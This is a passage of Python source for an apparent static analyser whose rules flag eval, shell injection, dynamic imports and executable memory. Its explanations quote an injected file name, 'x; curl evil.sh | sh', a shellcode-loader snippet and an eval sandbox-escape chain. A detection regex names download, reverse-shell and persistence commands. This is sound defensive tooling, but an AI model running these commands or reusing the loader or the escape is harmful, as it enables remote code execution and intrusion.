"""Code execution: eval/exec of data, shell commands, interpreters, dynamic imports, native code.

The rules split by where the executed text comes from, so that each finding says something
different: request or user input (data flow, with the source line), a string built by
formatting, a variable of unknown origin, or a constant that needs no shell at all. Flows from
the network belong to the download-and-execute family and untrusted input into commands to the
injection family (GH505); the checks here step aside for them instead of reporting twice.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

import tree_sitter

from ..context import CallSite, Context
from ..flow import FORMAT, NETWORK, REQUEST, USER, trace
from ..literals import DECODER_NAMES
from ..model import Related
from ..rule import CallRule, Hit, ScopeRule
from ..statements import WARMERS, module_mentions, per_statement
from ._common import (
    Category,
    Confidence,
    Edit,
    Fix,
    RuleMeta,
    Severity,
    assigned_values,
    import_edits,
    in_test_code,
    is_constant,
    is_literal_string,
    loop_iterable,
)
from .injection import describe, find_source, template_of

Node = tree_sitter.Node
UNTRUSTED = (REQUEST, USER)
#: labels whose flows other families report (injection: GH505, download: GH200/GH202)
ELSEWHERE = (REQUEST, USER, NETWORK)

# --------------------------------------------------------------------------------------------
# Metadata

EVAL_OF_DATA = RuleMeta(
    code="GH100",
    name="eval-of-data",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(95,),
    message="`{name}()` runs a string that is not a literal as Python code",
    why=(
        "eval() and exec() run whatever string they are given with the full power of the "
        "process. When the string is computed rather than written in the source, anyone who "
        "can influence it can run arbitrary code; generated code rarely needs either, and a "
        "model that writes `eval(data)` has usually turned a parsing problem into remote code "
        "execution. Parse data with `ast.literal_eval`, `json.loads` or a real parser, and map "
        "names to functions with a dictionary instead of evaluating them."
    ),
    example="config = eval(open('settings.txt').read())",
    fixed_example="import ast\nconfig = ast.literal_eval(open('settings.txt').read())",
    fixable=True,
)

CODE_INJECTION = RuleMeta(
    code="GH101",
    name="code-injection-from-input",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(94, 95),
    message="`{name}()` {verb} {kind} from `{source}` on line {line} as Python code",
    why=(
        "Request parameters and user input reach eval(), exec() or compile() and are run as "
        "Python. Whoever sends the request can execute any code with the privileges of the "
        "process: read secrets, open a shell, pivot into the network. Restricting `__builtins__` "
        "or filtering keywords does not help, because object attributes lead back to every "
        "module. Parse literals with `ast.literal_eval`, evaluate arithmetic with a small "
        "expression parser, and dispatch named actions through a dictionary."
    ),
    example=(
        "@app.route('/calc')\n"
        "def calc():\n"
        "    expr = request.args.get('expr')\n"
        "    return str(eval(expr))"
    ),
    fixed_example=(
        "@app.route('/calc')\n"
        "def calc():\n"
        "    expr = request.args.get('expr')\n"
        "    return str(ast.literal_eval(expr))"
    ),
    fixable=True,
)

SHELL_FORMATTED = RuleMeta(
    code="GH102",
    name="shell-command-built-by-formatting",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(78,),
    message="`{sink}()` runs a shell command built by {how}{where}",
    why=(
        "The command line is assembled from values and handed to a shell, which interprets "
        "`;`, `|`, `&&`, `$(...)`, backticks, globs and spaces in those values. A file name "
        "such as `x; curl evil.sh | sh` or a host name with a space turns into extra commands "
        "or arguments. Pass an argument list without `shell=True`, so that each value is one "
        "argument whatever it contains, or quote every value with `shlex.quote`."
    ),
    example="subprocess.run(f'tar czf {archive} {folder}', shell=True, check=True)",
    fixed_example="subprocess.run(['tar', 'czf', archive, folder], check=True)",
    fixable=True,
)

SHELL_VARIABLE = RuleMeta(
    code="GH103",
    name="shell-command-from-variable",
    category=Category.EXECUTION,
    severity=Severity.WARNING,
    confidence=Confidence.LOW,
    cwe=(78,),
    message="`{sink}()` hands `{command}` to a shell; its value is not visible here",
    why=(
        "A shell runs a command line whose text is decided elsewhere: a parameter, a setting, "
        "an environment variable or a function's result. If any part of it can be influenced "
        "from outside, the shell executes whatever it spells, including `;`-separated extra "
        "commands. Code that only needs to start a program should pass an argument list "
        "without `shell=True`, so that the program is fixed and its arguments are inert."
    ),
    example="def run_hook(command):\n    os.system(command)",
    fixed_example="def run_hook(argv: list[str]):\n    subprocess.run(argv, check=True)",
)

SHELL_UNNEEDED = RuleMeta(
    code="GH104",
    name="shell-true-unneeded",
    category=Category.EXECUTION,
    severity=Severity.INFO,
    confidence=Confidence.HIGH,
    cwe=(78,),
    message="`{sink}()` starts a shell for a fixed command that uses no shell features",
    why=(
        "`shell=True` runs the command through `/bin/sh` (or `cmd.exe`) although this command "
        "uses no pipes, redirections, variables or globs. The shell adds nothing but risk: the "
        "next edit that puts a value into the string becomes a command injection, and the "
        "shell's own environment (PATH, aliases in some shells) decides what runs. An argument "
        "list runs the same program directly."
    ),
    example="subprocess.run('ls -l /var/log', shell=True, check=True)",
    fixed_example="subprocess.run(['ls', '-l', '/var/log'], check=True)",
    fixable=True,
)

INTERPRETER_INLINE = RuleMeta(
    code="GH105",
    name="interpreter-inline-code",
    category=Category.EXECUTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(78, 94),
    message="`{program}` is started with {what} built at runtime{where}",
    why=(
        "Starting `sh -c`, `bash -c`, `python -c`, `perl -e` or `powershell -Command` with a "
        "computed script (or piping one to the interpreter's stdin) is `shell=True` or eval() "
        "in disguise: the argument list looks safe, but the interpreter parses the string as "
        "code, so any value inside it can add commands. Call the program you need directly "
        "with an argument list, or run a fixed script file and pass values as arguments."
    ),
    example="subprocess.run(['bash', '-c', f'gzip -9 {path} && mv {path}.gz /backup'])",
    fixed_example=(
        "subprocess.run(['gzip', '-9', path], check=True)\nshutil.move(path + '.gz', '/backup')"
    ),
)

WRITABLE_CODE_PATH = RuleMeta(
    code="GH106",
    name="python-code-from-writable-path",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(427, 426, 94),
    message="`{name}()` makes Python code in {what} importable or runs it",
    why=(
        "Putting a temporary or world-writable directory on `sys.path`, or loading a module "
        "file from one, runs whatever file is there when the import happens. Any local user "
        "or earlier-stage dropper can plant `/tmp/json.py` or `/dev/shm/helper.py` and have it "
        "executed with this program's privileges; it is also how staged malware loads its "
        "second stage without a visible import. Import code from the installed package or "
        "from a directory only the program's owner can write."
    ),
    example="sys.path.insert(0, '/tmp/.cache')\nimport helper",
    fixed_example="from myapp import helper  # installed with the package",
)

IMPORT_FROM_INPUT = RuleMeta(
    code="GH107",
    name="import-from-input",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(470, 829, 94),
    message="`{name}()` loads code chosen by {kind} from `{source}` on line {line}",
    why=(
        "Importing a module or running a file named by request or user input lets the caller "
        "choose which code runs: any installed module with import-time side effects, a file "
        "they uploaded, or a path such as `/tmp/x.py`. Map the accepted values to module names "
        "with a dictionary and reject everything else."
    ),
    example=(
        "@app.post('/plugins/<name>/run')\n"
        "def run_plugin(name):\n"
        "    return importlib.import_module(name).main()"
    ),
    fixed_example=(
        "PLUGINS = {'report': 'app.plugins.report', 'export': 'app.plugins.export'}\n\n"
        "@app.post('/plugins/<name>/run')\n"
        "def run_plugin(name):\n"
        "    return importlib.import_module(PLUGINS[name]).main()"
    ),
)

REFLECTION_FROM_INPUT = RuleMeta(
    code="GH108",
    name="reflection-from-input",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(470,),
    message="`getattr()` picks the function to call by {kind} from `{source}` on line {line}",
    why=(
        "Looking up an attribute by a name taken from a request and calling it lets the caller "
        "invoke any method or module function reachable from that object: `getattr(os, name)` "
        "offers `system`, and on an ordinary object `__class__` and friends lead to every "
        "loaded module. Dispatch through an explicit dictionary of allowed actions, or prefix "
        "the name (`'do_' + action`) so that only intended handlers can be reached."
    ),
    example=(
        "@app.post('/admin/<action>')\n"
        "def admin(action):\n"
        "    return getattr(tasks, action)(**request.json)"
    ),
    fixed_example=(
        "ACTIONS = {'reindex': tasks.reindex, 'purge_cache': tasks.purge_cache}\n\n"
        "@app.post('/admin/<action>')\n"
        "def admin(action):\n"
        "    return ACTIONS[action](**request.json)"
    ),
)

EXECUTABLE_MEMORY = RuleMeta(
    code="GH109",
    name="executable-memory",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(94, 506),
    message="`{name}` {what}",
    why=(
        "Allocating writable and executable memory, writing bytes into it and jumping to it "
        "is how shellcode loaders and process injectors run machine code that never exists as "
        "a file: antivirus does not see it and no review can read it. Python applications "
        "have no legitimate reason to do this; JIT compilers and FFI libraries that need it "
        "live in reviewed native extensions, not in freshly written scripts."
    ),
    example=(
        "ptr = kernel32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
        "ctypes.memmove(ptr, buf, len(buf))\n"
        "kernel32.CreateThread(None, 0, ptr, None, 0, None)"
    ),
    fixed_example="# ship the native functionality as a reviewed, signed extension module",
)

RESTRICTED_EVAL = RuleMeta(
    code="GH110",
    name="eval-restricted-builtins",
    category=Category.EXECUTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(95, 693),
    message="`{name}()` with `__builtins__` removed is not a sandbox",
    why=(
        "Passing `{'__builtins__': {}}` (or None) as globals looks like a sandbox but is not "
        "one: from any literal, `().__class__.__base__.__subclasses__()` reaches every loaded "
        "class, and from there `os.system`. Well-known one-line escapes exist for every "
        "variant of this trick. If the input is a literal, use `ast.literal_eval`; if it is "
        "arithmetic, parse it with `ast.parse` and evaluate an allow-listed set of nodes."
    ),
    example="result = eval(expression, {'__builtins__': {}}, {})",
    fixed_example="result = ast.literal_eval(expression)",
)

INDIRECT_EVAL = RuleMeta(
    code="GH111",
    name="indirect-eval-sink",
    category=Category.EXECUTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(95,),
    message="`{name}()` evaluates its string argument as Python code; here it is {what}",
    why=(
        "`timeit`, `cProfile.run`, `pdb.run`, `code.InteractiveInterpreter.runsource` and "
        "`sympy.sympify` compile and run strings, exactly like exec() and eval(), but do not "
        "look like it. A computed or user-supplied string passed to them is code execution. "
        "Pass a callable to `timeit` and `cProfile` (`timeit.timeit(func)`), and parse "
        "mathematical input with `sympy.parsing.sympy_parser.parse_expr` only on validated text."
    ),
    example="sympy.sympify(request.args['formula'])",
    fixed_example=(
        "formula = request.args['formula']\n"
        "if not SAFE_FORMULA.fullmatch(formula):\n"
        "    abort(400)\n"
        "sympy.sympify(formula)"
    ),
)

NATIVE_LIBRARY = RuleMeta(
    code="GH112",
    name="native-library-from-writable-path",
    category=Category.EXECUTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(426, 427, 114),
    message="`{name}()` loads native code from {what}",
    why=(
        "Loading a shared library runs its initialisers with the full privileges of the "
        "process, before any Python code can check it. A library loaded from a temporary "
        "directory, from a path chosen by input, or from anywhere other users can write is "
        "the classic way to smuggle a native payload in: drop `/tmp/libx.so`, then "
        "`ctypes.CDLL` it. Loading every `*.so` found in a plugin folder under `/tmp`, the "
        "user's home or the working directory is the same hole: whoever can write a file "
        "there, or choose where the program starts, gets code run. Load libraries by name "
        "from the system search path or from your own package directory, never from "
        "writable or caller-chosen locations."
    ),
    example="lib = ctypes.CDLL('/tmp/.cache/libhelper.so')",
    fixed_example="lib = ctypes.CDLL(ctypes.util.find_library('helper'))",
)

# --------------------------------------------------------------------------------------------
# Shared helpers

_EVAL_NAMES = frozenset({"eval", "exec", "builtins.eval", "builtins.exec", "__builtins__.eval"})
_COMPILE_NAMES = frozenset({"compile", "builtins.compile"})
_NAMESPACE_CALLS = frozenset({"globals", "locals", "vars"})


def _short(name: str | None, default: str) -> str:
    return (name or default).rsplit(".", 1)[-1]


def _code_argument(site: CallSite) -> Node | None:
    return site.arg(0, "source") or site.arg(0, "expression") or site.arg(0, "object")


def _namespace_given(ctx: Context, site: CallSite) -> bool:
    """`exec(code, ns)`: code generation with an explicit namespace, not `globals()` itself."""
    namespace = site.arg(1, "globals")
    if namespace is None:
        return False
    if namespace.type == "call":
        function = namespace.child_by_field_name("function")
        arguments = namespace.child_by_field_name("arguments")
        if (
            function is not None
            and ctx.text(function) in _NAMESPACE_CALLS
            and (arguments is None or not arguments.named_children)
        ):
            return False
    return True


def _constant_origin(ctx: Context, node: Node, depth: int = 0) -> bool:
    """A variable only ever bound to constants (`for src in ["1+1", "2*3"]: eval(src)`)."""
    if depth > 5:
        return False
    if ctx.const(node) is not None:
        return True
    if node.type in {"list", "tuple", "set"}:
        return all(_constant_origin(ctx, c, depth + 1) for c in node.named_children)
    if node.type == "binary_operator":
        # `NAMES + MORE_NAMES`: lists of constants joined together
        left = node.child_by_field_name("left")
        right = node.child_by_field_name("right")
        operator = node.child_by_field_name("operator")
        return (
            operator is not None
            and operator.type == "+"
            and left is not None
            and right is not None
            and _constant_origin(ctx, left, depth + 1)
            and _constant_origin(ctx, right, depth + 1)
        )
    if node.type == "conditional_expression" and len(node.named_children) == 3:
        first, _, second = node.named_children  # `"cls" if windows else "clear"`
        return _constant_origin(ctx, first, depth + 1) and _constant_origin(ctx, second, depth + 1)
    if node.type == "call":
        # a decoder applied to constants is a constant (an obfuscated one: GH150 reports it)
        site = ctx.call_site(node)
        if site.name in DECODER_NAMES:
            operands = list(site.args)
        elif site.method in {"decode", "encode"} and site.receiver is not None:
            operands = [site.receiver]
        elif site.method == "join" and site.receiver is not None and len(site.args) == 1:
            operands = [site.receiver, site.args[0]]  # `" ".join(PACKAGES)`
        else:
            return False
        return bool(operands) and all(_constant_origin(ctx, o, depth + 1) for o in operands)
    if node.type != "identifier":
        return False
    loop = loop_iterable(ctx, node)
    if loop is not None:
        return _constant_origin(ctx, loop, depth + 1)
    values = assigned_values(ctx, node)
    return bool(values) and all(_constant_origin(ctx, v, depth + 1) for v in values)


def _literal_eval_fix(ctx: Context, site: CallSite) -> Fix | None:
    """eval(x) -> ast.literal_eval(x): the same result for data, an error for code."""
    if site.name not in {"eval", "builtins.eval"} or len(site.args) != 1 or site.keywords:
        return None
    imports = import_edits(ctx, "ast")
    if imports is None:
        return None
    edit = Edit(site.function.start_byte, site.function.end_byte, "ast.literal_eval")
    return Fix("Parse the value with ast.literal_eval()", (*imports, edit), safe=False)


def _decoded(ctx: Context, node: Node) -> bool:
    """Decoded payloads are reported by the obfuscation family (GH150) instead."""
    from .obfuscation import decoding_step

    return decoding_step(ctx, node) is not None


# --------------------------------------------------------------------------------------------
# GH100, GH101, GH110: eval / exec / compile


def _eval_of_data(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = _code_argument(site)
    if code is None or site.has_star_args or is_literal_string(ctx, code):
        return
    if site.name in _COMPILE_NAMES:
        return
    taint = ctx.taint(code)
    if taint is not None and taint.has(*UNTRUSTED):
        return  # GH101 names the source
    if taint is None or not taint.has(NETWORK):
        # Untainted strings: code generation with its own namespace, repr round trips,
        # strings that are constants after all, and tests are how libraries use exec/eval.
        if _namespace_given(ctx, site) or _round_trip(ctx, code):
            return
        if _constant_origin(ctx, code) or in_test_code(ctx, site.node):
            return
    yield Hit.at(site.node, fix=_literal_eval_fix(ctx, site), name=_short(site.name, "eval"))


_ROUND_TRIP = frozenset({"repr", "srepr", "ascii", "pformat", "pprint.pformat"})


def _round_trip(ctx: Context, node: Node) -> bool:
    """`eval(repr(x))`: a test of the repr, not an evaluation of data."""
    if node.type != "call":
        return False
    function = node.child_by_field_name("function")
    return function is not None and _short(ctx.qualname(function), "") in _ROUND_TRIP


def _code_injection(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = _code_argument(site)
    if code is None or is_literal_string(ctx, code):
        return
    source = find_source(ctx, code, UNTRUSTED)
    if source is None or _script_named_on_command_line(ctx, code, source.labels):
        return
    yield Hit.at(
        site.node,
        fix=_literal_eval_fix(ctx, site),
        related=source.related,
        name=_short(site.name, "eval"),
        verb="compiles" if site.name in _COMPILE_NAMES else "runs",
        kind=source.kind,
        source=source.text,
        line=str(source.line),
    )


_FILE_READERS = frozenset(
    {"open", "io.open", "codecs.open", "tokenize.open", "pathlib.Path.read_text", "runpy.run_path"}
)


def _script_named_on_command_line(ctx: Context, code: Node, labels: frozenset[str]) -> bool:
    """`exec(open(sys.argv[1]).read())`: a launcher running the script its user named, the way
    `python script.py` does; not input evaluated as code."""
    if REQUEST in labels:
        return False
    chain = trace(ctx, code, USER)
    if not chain or not ctx.text(chain[-1]).startswith("sys.argv"):
        return False
    for node in chain:
        if node.type != "call":
            continue
        function = node.child_by_field_name("function")
        name = None if function is None else ctx.qualname(function)
        method = "" if function is None else ctx.text(function).rsplit(".", 1)[-1]
        if name in _FILE_READERS or method in _READ_METHODS:
            return True
    return False


_READ_METHODS = frozenset({"read", "read_text", "read_bytes", "readlines"})


def _restricted_eval(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = _code_argument(site)
    namespace = site.arg(1, "globals")
    if code is None or namespace is None or is_literal_string(ctx, code):
        return
    if namespace.type == "identifier":
        values = assigned_values(ctx, namespace)
        namespace = values[-1] if len(values) == 1 else namespace
    if namespace.type != "dictionary" or not _strips_builtins(ctx, namespace):
        return
    if code.type == "attribute" or _precompiled(ctx, code):
        return  # a code object compiled from a checked AST, not a string
    if in_test_code(ctx, site.node):
        return
    yield Hit.at(site.node, name=_short(site.name, "eval"))


def _strips_builtins(ctx: Context, dictionary: Node) -> bool:
    for pair in dictionary.named_children:
        if pair.type != "pair":
            continue
        key = pair.child_by_field_name("key")
        value = pair.child_by_field_name("value")
        if key is None or value is None or ctx.const(key) != "__builtins__":
            continue
        return value.type in {"none", "dictionary"} or ctx.text(value) in {"{}", "dict()"}
    return False


def _precompiled(ctx: Context, node: Node) -> bool:
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        return bool(values) and all(_precompiled(ctx, v) for v in values)
    if node.type != "call":
        return False
    function = node.child_by_field_name("function")
    return function is not None and ctx.qualname(function) in _COMPILE_NAMES


# --------------------------------------------------------------------------------------------
# GH102-GH104: shell commands

#: always run their command through a shell
SHELL_ALWAYS = frozenset(
    {
        "os.system", "os.popen", "os.popen2", "os.popen3", "os.popen4", "platform.popen",
        "subprocess.getoutput", "subprocess.getstatusoutput", "commands.getoutput",
        "commands.getstatusoutput", "asyncio.create_subprocess_shell", "popen2.popen2",
        "popen2.popen3", "popen2.popen4",
    }
)  # fmt: skip
#: run a shell when `shell=True`
SUBPROCESS = frozenset(
    {
        "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
        "subprocess.Popen",
    }
)  # fmt: skip


@dataclass(frozen=True)
class ShellCall:
    """A call that hands a command line to a shell."""

    sink: str
    command: Node
    #: the `shell=True` argument, None for functions that always use a shell
    shell: Node | None


def shell_call(ctx: Context, site: CallSite) -> ShellCall | None:
    """The command a call hands to a shell, if it does."""
    name = site.name
    if name in SHELL_ALWAYS:
        keyword = "cmd" if name.startswith(("os.", "platform.", "asyncio.")) else "command"
        command = site.arg(0, keyword)
        return None if command is None else ShellCall(name, command, None)
    if name in SUBPROCESS:
        value = site.keywords.get("shell")
        command = site.arg(0, "args")
        if value is None or command is None or ctx.text(value) not in {"True", "1"}:
            return None
        return ShellCall(name, command, site.keyword_argument("shell"))
    return None


_SAFE_HOLE_CALLS = frozenset(
    {
        "shlex.quote", "pipes.quote", "shlex.join", "int", "float", "len", "os.getpid",
        "os.getuid", "os.getppid", "str.isdigit",
    }
)  # fmt: skip
_SAFE_HOLE_VALUES = frozenset({"sys.executable", "os.devnull", "os.sep", "os.pathsep"})
_NUMERIC_SPECS = frozenset("dixXofeEgGn")


def _safe_hole(ctx: Context, expr: Node | None, spec: str) -> bool:
    """A value that cannot add shell syntax: quoted, numeric, constant or the interpreter."""
    if spec in _NUMERIC_SPECS:
        return True
    if expr is None:
        return False
    if expr.type == "call":
        function = expr.child_by_field_name("function")
        name = None if function is None else ctx.qualname(function)
        if name in _SAFE_HOLE_CALLS:
            return True
        arguments = expr.child_by_field_name("arguments")
        if name == "str" and arguments is not None:
            inner = [a for a in arguments.named_children if a.type != "comment"]
            return len(inner) == 1 and _safe_hole(ctx, inner[0], "")
        return _constant_origin(ctx, expr)  # `" ".join(PACKAGES)`
    if expr.type in {"integer", "float"} or ctx.qualname(expr) in _SAFE_HOLE_VALUES:
        return True
    return _constant_origin(ctx, expr) or _local_path(ctx, expr)


#: calls that build a path from their arguments or from the machine's own directories
_PATH_CALLS = frozenset(
    {"pathlib.Path", "pathlib.PurePath", "pathlib.Path.home", "pathlib.Path.cwd", "os.getcwd",
     "os.path.join", "os.path.expanduser", "os.path.abspath", "os.path.dirname",
     "os.path.realpath", "tempfile.gettempdir", "os.path.normpath"}
)  # fmt: skip


def _local_path(ctx: Context, node: Node, depth: int = 0) -> bool:
    """A path built only from constants and the machine's own directories (`Path.home() / x`):
    nothing from outside can put shell syntax in it."""
    if depth > 6:
        return False
    if ctx.const(node) is not None or ctx.qualname(node) in _SAFE_HOLE_VALUES:
        return True
    kind = node.type
    if kind == "identifier":
        values = assigned_values(ctx, node)
        return bool(values) and all(_local_path(ctx, v, depth + 1) for v in values)
    if kind == "binary_operator":
        operator = node.child_by_field_name("operator")
        left = node.child_by_field_name("left")
        right = node.child_by_field_name("right")
        return (
            operator is not None
            and operator.type in {"/", "+"}
            and left is not None
            and right is not None
            and _local_path(ctx, left, depth + 1)
            and _local_path(ctx, right, depth + 1)
        )
    if kind == "call":
        function = node.child_by_field_name("function")
        arguments = node.child_by_field_name("arguments")
        if function is None or ctx.qualname(function) not in _PATH_CALLS:
            return False
        return arguments is None or all(
            _local_path(ctx, a, depth + 1) for a in arguments.named_children
        )
    if kind == "attribute":
        obj = node.child_by_field_name("object")
        return (
            obj is not None
            and ctx.text(node).rsplit(".", 1)[-1] in {"parent", "name", "stem"}
            and _local_path(ctx, obj, depth + 1)
        )
    return False


def _formatted_origin(ctx: Context, command: Node) -> Node | None:
    """The expression that built the command string: the command itself or its assignment."""
    if template_of(ctx, command) is not None and ctx.const(command) is None:
        return command
    taint = ctx.taint(command)
    if taint is None or FORMAT not in taint.labels:
        return None
    return taint.origin


def _all_holes_safe(ctx: Context, origin: Node) -> bool:
    template = template_of(ctx, origin)
    if template is None or not template.holes:
        return False
    return all(_safe_hole(ctx, hole.expr, hole.spec) for hole in template.holes)


#: command words and paths that make a command a finding of another family (downloads,
#: exfiltration, reverse shells, persistence, tampering, permissions): those rules say what
#: the command does, which matters more than how it was built
_OTHER_FAMILY_COMMAND = re.compile(
    r"(?:^|[\s;&|(`'\"/])(?:curl|wget|nc|ncat|netcat|socat|telnet|tftp|ftp|scp|sftp|powershell"
    r"|pwsh|iwr|iex|invoke-\w+|certutil|bitsadmin|mshta|rundll32|regsvr32|msiexec|crontab"
    r"|schtasks|at|reg|launchctl|systemctl|service|usermod|useradd|adduser|passwd|chpasswd"
    r"|visudo|chattr|ufw|iptables|setenforce|auditctl|shred|chmod|chown|mkfifo|nohup)"
    r"(?:\.exe)?(?=$|[\s;&|)`'\"])"
    r"|/dev/(?:tcp|udp)/|\b(?:ba)?sh\s+-i\b|launch(?:daemons|agents)|authorized_keys|sudoers"
    r"|ld\.so\.preload|\.bashrc|\.bash_profile|\.zshrc|\.profile\b|rc\.local|/etc/cron"
    r"|/etc/systemd|/etc/init\.d|currentversion\\\\?run|\|\s*(?:ba|z|da)?sh\b"
    r"|\bnet\s+(?:user|localgroup)\b",
    re.IGNORECASE,
)


def command_text(ctx: Context, node: Node) -> str:
    """The constant text of a command, with unknown parts as spaces (for pattern checks)."""
    value = ctx.const(node)
    if isinstance(value, str):
        return value
    if node.type in {"list", "tuple"}:
        return " ".join(command_text(ctx, c) for c in node.named_children)
    origin = _formatted_origin(ctx, node)
    template = None if origin is None else template_of(ctx, origin)
    return "" if template is None else template.text.replace("\x00", " ")


def _other_family(ctx: Context, command: Node) -> bool:
    return bool(_OTHER_FAMILY_COMMAND.search(command_text(ctx, command)))


def _shell_formatted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    call = shell_call(ctx, site)
    if call is None or ctx.const(call.command) is not None:
        return
    taint = ctx.taint(call.command)
    if taint is not None and taint.has(*ELSEWHERE):
        return
    origin = _formatted_origin(ctx, call.command)
    if origin is None or _all_holes_safe(ctx, origin) or _decoded(ctx, call.command):
        return
    if _other_family(ctx, call.command) or in_test_code(ctx, site.node):
        return
    template = template_of(ctx, origin)
    how = template.how if template is not None else "string building"
    where = ""
    related: tuple[Related, ...] = ()
    if origin.start_byte < call.command.start_byte or origin.end_byte > call.command.end_byte:
        line = ctx.module.lines.line_of(origin.start_byte) + 1
        where = f" on line {line}"
        related = (Related(origin.start_byte, origin.end_byte, f"command built with {how}"),)
    fix = _argv_fix(ctx, site, call) if origin is call.command else None
    yield Hit.at(site.node, fix=fix, related=related, sink=call.sink, how=how, where=where)


# GH102 through a wrapper: `def _run(cmd): subprocess.run(cmd, shell=True)`, and callers that
# pass `_run(f"git log {branch}")`. The wrapper alone looks harmless (GH103 leaves parameters
# to their callers); the call sites are where the command is built.


@dataclass(frozen=True)
class ShellWrapper:
    """A function of this module that hands one of its parameters to a shell."""

    index: int
    parameter: str
    method: bool
    sink: str
    #: the shell call, relative to the start of the wrapper's top-level statement
    sink_start: int
    sink_end: int


_SHELL_HINT = re.compile(
    rb"shell\s*=\s*(?:True|1)\b|system\(|popen|getoutput|getstatusoutput|_shell\("
)


_SHELL_WORDS = re.compile(rb"shell|system\(|popen|getoutput|getstatusoutput")


def shell_wrappers(ctx: Context) -> dict[str, tuple[tree_sitter.Node, ShellWrapper]]:
    """Wrappers by name, with the top-level statement each belongs to (once per analysis)."""
    found: dict[str, tuple[tree_sitter.Node, ShellWrapper]] | None = ctx.__dict__.get(
        "_gifthorse_shell_wrappers"
    )
    if found is not None:
        return found
    found = {}
    if not module_mentions(ctx, _SHELL_WORDS):  # most modules
        ctx.__dict__["_gifthorse_shell_wrappers"] = found
        return found
    # only the imports that can name a shell sink change which helpers are wrappers: a new
    # `import requests` must not make every statement's wrappers be worked out again
    imports = hash(
        tuple(
            sorted(
                (name, value)
                for name, value in ctx.imports.bindings.items()
                if value.partition(".")[0] in _SHELL_MODULES
            )
        )
    )
    for statement, wrappers in per_statement(
        ctx, f"shell-wrappers:{imports}", lambda node: _statement_wrappers(ctx, node) or None
    ):
        for name, wrapper in wrappers:
            found[name] = (statement, wrapper)
    ctx.__dict__["_gifthorse_shell_wrappers"] = found
    return found


def _statement_wrappers(
    ctx: Context, statement: tree_sitter.Node
) -> tuple[tuple[str, ShellWrapper], ...]:
    if _SHELL_HINT.search(ctx.source, statement.start_byte, statement.end_byte) is None:
        return ()
    definition = statement.child_by_field_name("definition") or statement
    functions: list[tuple[tree_sitter.Node, bool]] = []
    if definition.type == "function_definition":
        functions.append((definition, False))
    elif definition.type == "class_definition":
        body = definition.child_by_field_name("body")
        for member in [] if body is None else body.named_children:
            member = member.child_by_field_name("definition") or member
            if member.type == "function_definition":
                functions.append((member, True))
    out: list[tuple[str, ShellWrapper]] = []
    for function, method in functions:
        wrapper = _wrapper_of(ctx, function, method, statement.start_byte)
        name = function.child_by_field_name("name")
        if wrapper is not None and name is not None:
            out.append((ctx.text(name), wrapper))
    return tuple(out)


def _wrapper_of(
    ctx: Context, function: tree_sitter.Node, method: bool, base: int
) -> ShellWrapper | None:
    parameters = function.child_by_field_name("parameters")
    if parameters is None or not _SHELL_HINT.search(
        ctx.source, function.start_byte, function.end_byte
    ):
        return None
    names = [_parameter_name(ctx, p) for p in parameters.named_children]
    stack = [function.child_by_field_name("body")]
    while stack:
        node = stack.pop()
        if node is None:
            continue
        if node.type == "call":
            call = shell_call(ctx, ctx.call_site(node))
            if (
                call is not None
                and call.command.type == "identifier"
                and _is_parameter(ctx, call.command)
            ):
                parameter = ctx.text(call.command)
                if parameter in names:
                    index = names.index(parameter) - (1 if method else 0)
                    return ShellWrapper(
                        index, parameter, method, call.sink, node.start_byte - base,
                        node.end_byte - base,
                    )  # fmt: skip
        if node.type not in {"function_definition", "lambda", "class_definition"}:
            stack.extend(node.named_children)
    return None


def _parameter_name(ctx: Context, parameter: tree_sitter.Node) -> str:
    node = parameter.child_by_field_name("name") or parameter
    while node.type != "identifier" and node.named_children:
        node = node.named_children[0]
    return ctx.text(node)


def _wrapper_callers(ctx: Context, scope: tree_sitter.Node) -> Iterator[Hit]:
    wrappers = shell_wrappers(ctx)
    if not wrappers or in_test_code(ctx, scope):
        return
    pattern = ctx.__dict__.get("_gifthorse_wrapper_pattern")
    if pattern is None:
        alternatives = b"|".join(re.escape(name.encode()) for name in sorted(wrappers))
        pattern = re.compile(rb"(?<![\w])(?:self\.)?(?:" + alternatives + rb")\s*\(")
        ctx.__dict__["_gifthorse_wrapper_pattern"] = pattern
    for match in pattern.finditer(ctx.source, scope.start_byte, scope.end_byte):
        node = ctx.node_at(match.start(), match.end() - 1)
        while (
            node.type == "identifier"
            and node.parent is not None
            and node.parent.type in {"attribute"}
        ):
            node = node.parent
        call = node.parent
        if call is None or call.type != "call" or call.child_by_field_name("function") != node:
            continue
        if ctx.scope_of(call) != scope and scope.type != "module":
            continue
        if scope.type == "module" and ctx.scope_of(call).type != "module":
            continue
        hit = _wrapper_call(ctx, call, wrappers)
        if hit is not None:
            yield hit


def _wrapper_call(
    ctx: Context, call: tree_sitter.Node, wrappers: dict[str, tuple[tree_sitter.Node, ShellWrapper]]
) -> Hit | None:
    site = ctx.call_site(call)
    method = site.function.type == "attribute"
    if method and (site.receiver is None or ctx.text(site.receiver) != "self"):
        return None
    entry = wrappers.get(site.method or "")
    if entry is None or entry[1].method != method:
        return None
    statement, wrapper = entry
    argument = site.arg(wrapper.index, wrapper.parameter) if wrapper.index >= 0 else None
